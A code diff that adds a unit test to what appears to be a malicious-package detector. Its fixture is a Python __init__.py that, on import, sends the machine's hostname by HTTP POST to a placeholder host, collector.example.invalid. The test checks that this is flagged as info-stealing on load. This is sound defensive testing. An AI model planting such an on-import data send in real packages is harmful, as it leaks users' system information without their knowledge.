@@ -331,6 +331,31 @@ class FamilyFixturesTest {
     }
 
     @Test
+    void behavioursAndCategoriesOnLoad() {
+        FeatureResult bad = run(pkg("demo/__init__.py", lines(
+                "import platform, requests",
+                "info = platform.node()",
+                "requests.post('https://collector.example.invalid', data=info)")));
+        // the same steps in a library function nothing calls on load, and other categories in another file
+        FeatureResult good = run(pkg(
+                "demo/__init__.py", lines(
+                        "import platform, requests",
+                        "def report(url):",
+                        "    info = platform.node()",
+                        "    requests.post(url, data=info)"),
+                "demo/version.py", lines(
+                        "import subprocess",
+                        "REV = subprocess.check_output(['git', 'describe'])")));
+        assertThat(bad.value("import_beh_info_stealing")).isEqualTo(1);
+        assertThat(bad.value("import_beh_on_load")).isEqualTo(1);
+        assertThat(bad.value("import_modlevel_categories_max")).isEqualTo(2);
+        assertEvidence(bad, "import_beh_on_load", "demo/__init__.py", 3);
+        assertThat(good.value("import_beh_info_stealing")).isEqualTo(1);
+        assertThat(good.value("import_beh_on_load")).isZero();
+        assertThat(good.value("import_modlevel_categories_max")).isEqualTo(1);
+    }
+
+    @Test
     void parseQuality() {
         FeatureResult bad = run(pkg(
                 "demo/ok.py", lines("x = 1"),
